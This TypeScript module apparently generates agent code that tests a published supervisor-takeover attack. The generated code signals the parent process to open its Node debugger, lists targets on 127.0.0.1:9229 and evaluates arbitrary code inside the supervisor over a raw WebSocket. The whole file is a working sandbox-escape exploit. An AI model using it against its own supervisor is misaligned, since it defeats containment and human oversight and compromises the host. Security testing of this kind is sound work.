/**
 * Agent code for the published supervisor takeover: SIGUSR1 to the supervisor
 * (process._debugProcess(process.ppid)), then its debugger's target list on 127.0.0.1:9229, then,
 * if that opened, one Runtime.evaluate of `expression` inside the supervisor. The module's run()
 * returns { debugProcess, inspector, evaluated? }.
 */
/** A minimal WebSocket client (node 20 has none built in): one Runtime.evaluate in the target. */
const WS_EVAL = `
import net from 'node:net';
import crypto from 'node:crypto';
function wsEval(url, expression) {
  return new Promise((resolve, reject) => {
    const u = new URL(url);
    const s = net.connect(Number(u.port), u.hostname);
    let buf = Buffer.alloc(0);
    let upgraded = false;
    const timer = setTimeout(() => { s.destroy(); reject(new Error('websocket timeout')); }, 3000);
    s.on('connect', () => s.write('GET ' + u.pathname + ' HTTP/1.1\\r\\nHost: ' + u.host + '\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: ' + crypto.randomBytes(16).toString('base64') + '\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n'));
    s.on('error', (e) => { clearTimeout(timer); reject(e); });
    s.on('data', (d) => {
      buf = Buffer.concat([buf, d]);
      if (!upgraded) {
        const end = buf.indexOf('\\r\\n\\r\\n');
        if (end < 0) return;
        upgraded = true;
        buf = buf.subarray(end + 4);
        const payload = Buffer.from(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression, returnByValue: true } }));
        const mask = crypto.randomBytes(4);
        const header = payload.length < 126 ? Buffer.from([0x81, 0x80 | payload.length]) : Buffer.from([0x81, 0x80 | 126, payload.length >> 8, payload.length & 255]);
        s.write(Buffer.concat([header, mask, payload.map((b, i) => b ^ mask[i % 4])]));
      }
      while (buf.length >= 2) {
        let len = buf[1] & 0x7f;
        let off = 2;
        if (len === 126) { if (buf.length < 4) return; len = buf.readUInt16BE(2); off = 4; }
        else if (len === 127) { if (buf.length < 10) return; len = Number(buf.readBigUInt64BE(2)); off = 10; }
        if (buf.length < off + len) return;
        const text = buf.subarray(off, off + len).toString();
        buf = buf.subarray(off + len);
        let msg;
        try { msg = JSON.parse(text); } catch { continue; }
        if (msg.id === 1) { clearTimeout(timer); s.destroy(); resolve(msg.result && msg.result.result ? msg.result.result.value : msg); }
      }
    });
  });
}
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
/** The published attack: SIGUSR1 to the supervisor, then its debugger target list; evaluate there if it opened. */
async function throughDebugger(expression) {
  const out = {};
  try { process._debugProcess(process.ppid); out.debugProcess = 'sent'; } catch (e) { out.debugProcess = e.code || String(e); }
  await sleep(500);
  let targets = null;
  try { targets = await (await fetch('http://127.0.0.1:9229/json/list')).json(); out.inspector = 'open'; }
  catch (e) { out.inspector = 'closed: ' + ((e.cause && e.cause.code) || e.message); }
  if (targets && targets[0]) out.evaluated = await wsEval(targets[0].webSocketDebuggerUrl, expression).catch((e) => 'ERR: ' + e.message);
  return out;
}
`;

export function debuggerAttack(expression: string): string {
  return `${WS_EVAL}
export async function run() { return throughDebugger(${JSON.stringify(expression)}); }`;
}
